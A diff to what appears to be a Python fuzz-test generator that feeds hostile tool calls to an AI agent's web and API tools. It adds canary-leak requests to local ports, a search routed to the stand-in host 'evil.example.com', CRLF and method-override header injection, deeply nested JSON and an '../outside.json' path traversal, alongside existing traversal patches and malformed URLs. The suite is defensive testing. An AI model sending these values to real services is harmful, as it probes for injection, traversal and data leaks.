@@ -148,6 +148,8 @@ def fetches(aims: Aims) -> Iterator[Call]:
     for _, url in numbered(aims.port):
         yield Call("fetch", {"url": url})
         yield Call("extract_page", {"url": url, **SOUGHT})
+        yield Call("api_read", {"url": url, "query": {"leak": "canary"}})
+        yield Call("api_call", {"url": url, "method": "POST", "body": {"leak": "canary"}})
     for _, path in aims.routes:
         yield Call("fetch", {"url": f"http://127.0.0.1:{aims.door}{path}"})
         yield Call("fetch", {"url": f"http://{aims.page}{path}"})
@@ -217,6 +219,12 @@ def strange_arguments() -> Iterator[Call]:
     yield Call("glob", {"pattern": "**/" * 200})
     for header in ("--- a/../../planted\n+++ b/../../planted\n", "--- README.md\n+++ /dev/null\n", "@@\n" * 2_000):
         yield Call("patch", {"path": "README.md", "diff": f"{header}@@ -1 +1 @@\n-#\n+owned\n"})
+    for engine in ("127.0.0.1", "evil.example.com", ""):
+        yield Call("web_search", {"query": "canary", "engine": engine})
+    for header in ("Host", "X-HTTP-Method-Override", "Cookie", "Transfer-Encoding", "A\r\nB"):
+        yield Call("api_read", {"url": "https://example.com/", "headers": {header: "DELETE"}})
+    yield Call("api_call", '{"url": "https://example.com/", "method": "POST", "body": ' + "[" * 200 + "]" * 200 + "}")
+    yield Call("api_read", {"url": "https://example.com/", "openapi": "../outside.json"})
     for url in ("", "http://" + "a" * 9000, "http://example.com\r\nX: y", "http://exa\u0000mple.com"):
         yield Call("fetch", {"url": url})
 
